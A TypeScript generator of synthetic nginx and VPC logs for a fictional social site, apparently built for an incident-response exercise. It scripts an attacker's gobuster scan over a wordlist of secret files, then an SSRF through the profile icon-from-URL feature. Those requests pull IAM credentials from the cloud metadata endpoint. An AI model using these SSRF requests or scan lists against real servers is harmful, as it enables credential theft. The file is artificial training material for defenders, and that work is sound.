/**
 * The web server's traffic, laid out once in offset space (anchor-free, so it is cached for every reset):
 * two weeks of users, background internet noise, and the attacker's scan and SSRF. nginx logs and the VPC
 * flow records of the web server's ENI are both derived from this one list, so they always agree.
 */
import { ATTACKER_SITE_USER, SITE_USERS, STOLEN_BODY_LEN } from "./content.ts";
import { Rng } from "./prng.ts";
import { jstHour, nginxErrorTime, nginxTime } from "./time.ts";
import { HOUR, IP, MIN, NAMES, T } from "./world.ts";

export interface WebReq {
  t: number;
  ip: string;
  method: string;
  path: string;
  status: number;
  bytes: number;
  referer: string;
  ua: string;
  /** A line for the nginx error log, if this request produced one. */
  error?: string;
}

const SITE = "https://secutter.example";

const USER_AGENTS = [
  "Mozilla/5.0 (iPhone; CPU iPhone OS 17_3_1 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/17.3 Mobile/15E148 Safari/604.1",
  "Mozilla/5.0 (iPhone; CPU iPhone OS 17_2 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/17.2 Mobile/15E148 Safari/604.1",
  "Mozilla/5.0 (Linux; Android 14; Pixel 7) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/121.0.6167.178 Mobile Safari/537.36",
  "Mozilla/5.0 (Linux; Android 13; SO-51C) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/121.0.0.0 Mobile Safari/537.36",
  "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/122.0.0.0 Safari/537.36",
  "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/121.0.0.0 Safari/537.36 Edg/121.0.2277.128",
  "Mozilla/5.0 (Macintosh; Intel Mac OS X 10_15_7) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/17.3 Safari/605.1.15",
  "Mozilla/5.0 (Macintosh; Intel Mac OS X 10_15_7) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/122.0.0.0 Safari/537.36",
  "Mozilla/5.0 (X11; Linux x86_64; rv:123.0) Gecko/20100101 Firefox/123.0",
];
const BOTS = ["Mozilla/5.0 (compatible; ExampleSearchBot/2.1; +https://search.example/bot)", "Mozilla/5.0 (compatible; ExampleFeedFetcher/1.0)"];
const NOISE_PATHS = [
  "/.env",
  "/wp-login.php",
  "/xmlrpc.php",
  "/.git/config",
  "/phpmyadmin/index.php",
  "/vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php",
  "/cgi-bin/luci",
  "/boaform/admin/formLogin",
  "/actuator/health",
  "/server-status",
];
const SCAN_WORDS = [
  "admin",
  "administrator",
  "backup",
  "backups",
  "config",
  "db",
  "dump",
  "old",
  "test",
  "tmp",
  "dev",
  "staging",
  "api",
  "v1",
  "console",
  "debug",
  "phpinfo.php",
  "info.php",
  "config.php",
  "config.php.bak",
  "wp-admin",
  "wp-login.php",
  "wp-content",
  "phpmyadmin",
  "pma",
  "mysql",
  "sql",
  "database.sql",
  "backup.zip",
  "site.tar.gz",
  ".env",
  ".env.bak",
  ".git/HEAD",
  ".git/config",
  ".svn/entries",
  ".aws/credentials",
  ".htaccess",
  ".DS_Store",
  "server-status",
  "robots.txt",
  "sitemap.xml",
  "uploads",
  "images",
  "static",
  "assets",
  "js",
  "css",
  "login",
  "logout",
  "signup",
  "register",
  "profile",
  "settings",
  "user",
  "users",
  "timeline",
  "post",
  "posts",
  "like",
  "search",
  "feed",
  "rss",
  "export",
  "import",
  "upload",
  "download",
  "files",
  "storage",
  "cache",
  "logs",
  "log",
  "error_log",
  "composer.json",
  "composer.lock",
  "vendor",
  "phpunit",
  "install.php",
  "setup.php",
  "readme.html",
  "license.txt",
  "adminer.php",
  "shell.php",
  "cmd.php",
  "xmlrpc.php",
  "jenkins",
  "manager/html",
];

/** Where users connect from: documentation ranges only (RFC 5737), kept apart from the attacker's and the office's addresses. */
function userIps(r: Rng): string[] {
  const out: string[] = [];
  for (let i = 1; i <= 180; i++) out.push(`192.0.2.${i}`);
  for (let i = 150; i <= 250; i++) out.push(`198.51.100.${i}`);
  for (let i = 100; i <= 200; i++) out.push(`203.0.113.${i}`);
  // Shuffle so a user's address says nothing about their id.
  for (let i = out.length - 1; i > 0; i--) {
    const j = r.int(0, i);
    [out[i], out[j]] = [out[j], out[i]];
  }
  return out;
}

let cached: WebReq[] | undefined;

export function webRequests(): WebReq[] {
  if (cached) return cached;
  const r = new Rng("web");
  const ips = userIps(r);
  const userIp = new Map<number, string>();
  const userUa = new Map<number, string>();
  for (const u of SITE_USERS) {
    userIp.set(u.id, ips[u.id % ips.length]);
    userUa.set(u.id, r.pick(USER_AGENTS));
  }
  const out: WebReq[] = [];
  const push = (q: WebReq) => {
    if (q.t < T.logsCopied) out.push(q);
  };
  const end = T.logsCopied;
  const rate = (h: number) => (h < 7 ? 5 : h < 10 ? 16 : h < 18 ? 20 : 32);
  const assets = (t: number, ip: string, ua: string, page: string) => {
    for (const [p, b] of [
      ["/static/css/app.css?v=20260112", 18342],
      ["/static/js/app.js?v=20260112", 48211],
      ["/static/img/logo.svg", 3321],
    ] as const) {
      const cached304 = r.chance(0.7);
      push({ t: t + r.int(80, 900), ip, method: "GET", path: p, status: cached304 ? 304 : 200, bytes: cached304 ? 0 : b, referer: `${SITE}${page}`, ua });
    }
  };
  for (let h = Math.ceil(T.historyStart / HOUR) * HOUR; h < end; h += HOUR) {
    const visits = Math.round(rate(jstHour(h)) * (0.75 + r.next() * 0.5));
    for (let v = 0; v < visits; v++) {
      const u = r.pick(SITE_USERS);
      const ip = r.chance(0.15) ? r.pick(ips) : userIp.get(u.id)!;
      const ua = userUa.get(u.id)!;
      let t = h + r.int(0, HOUR - 1);
      const loggedIn = r.chance(0.7);
      if (!loggedIn) {
        push({ t, ip, method: "GET", path: "/", status: 200, bytes: r.int(5200, 5600), referer: "-", ua });
        assets(t, ip, ua, "/");
        t += r.int(3000, 20000);
        push({ t, ip, method: "GET", path: "/login", status: 200, bytes: r.int(3900, 4100), referer: `${SITE}/`, ua });
        t += r.int(4000, 30000);
        const ok = r.chance(0.93);
        push({ t, ip, method: "POST", path: "/login", status: ok ? 302 : 200, bytes: ok ? 0 : r.int(4100, 4300), referer: `${SITE}/login`, ua });
        if (!ok) continue;
        t += r.int(100, 400);
      }
      push({ t, ip, method: "GET", path: "/timeline", status: 200, bytes: r.int(14000, 32000), referer: loggedIn ? "-" : `${SITE}/login`, ua });
      assets(t, ip, ua, "/timeline");
      for (let k = r.int(0, 6); k > 0; k--)
        push({
          t: t + r.int(300, 2500),
          ip,
          method: "GET",
          path: `/uploads/icons/${r.pick(SITE_USERS).id}/avatar.png`,
          status: r.chance(0.6) ? 304 : 200,
          bytes: r.int(1800, 9000),
          referer: `${SITE}/timeline`,
          ua,
        });
      const actions = r.int(1, 7);
      for (let a = 0; a < actions; a++) {
        t += r.int(5000, 120000);
        const kind = r.weighted([
          ["like", 5],
          ["post", 2],
          ["more", 3],
          ["user", 2],
          ["profile", 1],
        ] as const);
        if (kind === "like")
          push({ t, ip, method: "POST", path: `/like/${r.int(20000, 61000)}`, status: 200, bytes: r.int(20, 40), referer: `${SITE}/timeline`, ua });
        else if (kind === "post") {
          push({ t, ip, method: "POST", path: "/post", status: 302, bytes: 0, referer: `${SITE}/timeline`, ua });
          push({ t: t + r.int(80, 300), ip, method: "GET", path: "/timeline", status: 200, bytes: r.int(14000, 32000), referer: `${SITE}/timeline`, ua });
        } else if (kind === "more")
          push({
            t,
            ip,
            method: "GET",
            path: `/timeline?before=${r.int(20000, 61000)}`,
            status: 200,
            bytes: r.int(9000, 20000),
            referer: `${SITE}/timeline`,
            ua,
          });
        else if (kind === "user")
          push({ t, ip, method: "GET", path: `/u/${r.pick(SITE_USERS).handle}`, status: 200, bytes: r.int(8000, 16000), referer: `${SITE}/timeline`, ua });
        else {
          push({ t, ip, method: "GET", path: "/profile", status: 200, bytes: r.int(6000, 6400), referer: `${SITE}/timeline`, ua });
          if (r.chance(0.25)) {
            push({ t: t + 20000, ip, method: "POST", path: "/profile", status: 302, bytes: 0, referer: `${SITE}/profile`, ua });
            push({ t: t + 20200, ip, method: "GET", path: "/profile", status: 200, bytes: r.int(6000, 6400), referer: `${SITE}/profile`, ua });
          }
        }
      }
    }
    // Crawlers and the internet's constant background of exploit probes.
    if (r.chance(0.5))
      push({
        t: h + r.int(0, HOUR - 1),
        ip: `192.0.2.${r.int(181, 190)}`,
        method: "GET",
        path: r.pick(["/robots.txt", "/", "/sitemap.xml"]),
        status: 200,
        bytes: r.int(60, 5400),
        referer: "-",
        ua: r.pick(BOTS),
      });
    if (r.chance(0.35)) {
      const path = r.pick(NOISE_PATHS);
      const denied = path.startsWith("/.");
      const ip = `192.0.2.${r.int(200, 230)}`;
      const t = h + r.int(0, HOUR - 1);
      push({
        t,
        ip,
        method: "GET",
        path,
        status: denied ? 403 : 404,
        bytes: denied ? 153 : 3012,
        referer: "-",
        ua: r.pick([
          "Mozilla/5.0 zgrab/0.x",
          "python-requests/2.31.0",
          "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/90.0.4430.85 Safari/537.36",
        ]),
        error: denied ? FORBIDDEN : undefined,
      });
    }
  }
  attacker(out, r);
  out.sort((a, b) => a.t - b.t);
  cached = out;
  return out;
}

const FORBIDDEN = "access forbidden by rule";

const PHP_WARNING = (line: number, msg: string) =>
  `FastCGI sent in stderr: "PHP message: PHP Warning:  ${msg} in /var/www/secutter/app/Controllers/ProfileController.php on line ${line}" while reading response header from upstream`;

/** The attacker's visit: a directory scan, a throw-away account, then the SSRF in the icon-from-URL feature. */
function attacker(out: WebReq[], r: Rng) {
  const ip = IP.attacker;
  const scanUa = "gobuster/3.6";
  const browser = "Mozilla/5.0 (X11; Linux x86_64; rv:109.0) Gecko/20100101 Firefox/115.0";
  let t = T.scanStart;
  out.push({ t, ip, method: "GET", path: "/", status: 200, bytes: 5388, referer: "-", ua: browser });
  t += 40_000;
  const words = [...SCAN_WORDS];
  for (let pass = 0; pass < 5; pass++) {
    for (const w of words) {
      const path = pass === 0 ? `/${w}` : `/${w}${[".php", ".bak", ".old", "/"][pass - 1]}`;
      const known = ["/login", "/signup", "/timeline", "/profile", "/robots.txt", "/sitemap.xml"].includes(path);
      const denied = w.startsWith(".");
      const status = known ? 200 : denied ? 403 : ["/uploads/", "/static/"].includes(path) ? 403 : path === "/logout" ? 302 : 404;
      out.push({
        t,
        ip,
        method: "GET",
        path,
        status,
        bytes: status === 200 ? r.int(3000, 6000) : status === 403 ? 153 : status === 302 ? 0 : 3012,
        referer: "-",
        ua: scanUa,
        error: denied ? FORBIDDEN : undefined,
      });
      t += r.int(1500, 4200);
    }
  }
  t = T.signup;
  const icon = `/uploads/icons/${ATTACKER_SITE_USER.id}`;
  const step = (dt: number, method: string, path: string, status: number, bytes: number, referer: string, error?: string) => {
    t += dt;
    out.push({ t, ip, method, path, status, bytes, referer, ua: browser, error });
  };
  step(0, "GET", "/signup", 200, 4210, `${SITE}/`);
  step(38_000, "POST", "/signup", 302, 0, `${SITE}/signup`);
  step(300, "GET", "/timeline", 200, 2911, `${SITE}/signup`);
  step(41_000, "GET", "/profile", 200, 6112, `${SITE}/timeline`);
  step(52_000, "POST", "/profile", 302, 0, `${SITE}/profile`);
  step(250, "GET", "/profile", 200, 6140, `${SITE}/profile`);
  // The profile page previews an icon from a URL: the server fetches whatever the URL points at.
  step(61_000, "GET", `/profile/icon?url=http%3A%2F%2F${IP.minerHost}%2Ftest.png`, 200, 4821, `${SITE}/profile`);
  step(
    44_000,
    "GET",
    "/profile/icon?url=http%3A%2F%2F127.0.0.1%2F",
    200,
    612,
    `${SITE}/profile`,
    PHP_WARNING(57, "getimagesizefromstring(): Error reading from resource"),
  );
  step(
    70_000,
    "GET",
    "/profile/icon?url=http%3A%2F%2F169.254.169.254%2Flatest%2Fmeta-data%2F",
    200,
    226,
    `${SITE}/profile`,
    PHP_WARNING(57, "getimagesizefromstring(): Error reading from resource"),
  );
  step(
    55_000,
    "GET",
    "/profile/icon?url=http%3A%2F%2F169.254.169.254%2Flatest%2Fmeta-data%2Fiam%2Fsecurity-credentials%2F",
    200,
    17,
    `${SITE}/profile`,
    PHP_WARNING(57, "getimagesizefromstring(): Error reading from resource"),
  );
  t = T.ssrf;
  // Typed straight into the address bar, so nginx logs the URL unencoded.
  out.push({
    t,
    ip,
    method: "GET",
    path: `/profile/icon?url=http://169.254.169.254/latest/meta-data/iam/security-credentials/${NAMES.webRole}`,
    status: 200,
    bytes: STOLEN_BODY_LEN,
    referer: "-",
    ua: browser,
    error: PHP_WARNING(57, "getimagesizefromstring(): Error reading from resource"),
  });
  step(36_000, "POST", "/profile/icon", 302, 0, `${SITE}/profile`, PHP_WARNING(71, "imagecreatefromstring(): Data is not in a recognized format"));
  step(400, "GET", "/profile", 200, 6168, `${SITE}/profile`);
  step(900, "GET", `${icon}/${STOLEN_ICON}`, 200, STOLEN_BODY_LEN, `${SITE}/profile`);
  step(9 * MIN, "GET", "/logout", 302, 0, `${SITE}/profile`);
}

/** The file name the app gave the "icon" that holds the instance credentials. */
export const STOLEN_ICON = `${new Rng("stolen-icon").hex(32)}.png`;

/** nginx "main" format as shipped in Amazon Linux's nginx.conf. */
export function accessLine(q: WebReq, anchor: number): string {
  return `${q.ip} - - [${nginxTime(anchor + q.t)}] "${q.method} ${q.path} HTTP/1.1" ${q.status} ${q.bytes} "${q.referer}" "${q.ua}" "-"`;
}

export function errorLine(q: WebReq, anchor: number, conn: number): string {
  const byRule = q.error === FORBIDDEN;
  const upstream = byRule ? "" : `, upstream: "fastcgi://unix:/run/php-fpm/www.sock:"`;
  const referrer = q.referer !== "-" ? `, referrer: "${q.referer}"` : "";
  return `${nginxErrorTime(anchor + q.t)} [error] 2187#2187: *${conn} ${q.error}, client: ${q.ip}, server: secutter.example, request: "${q.method} ${q.path} HTTP/1.1"${upstream}, host: "secutter.example"${referrer}`;
}
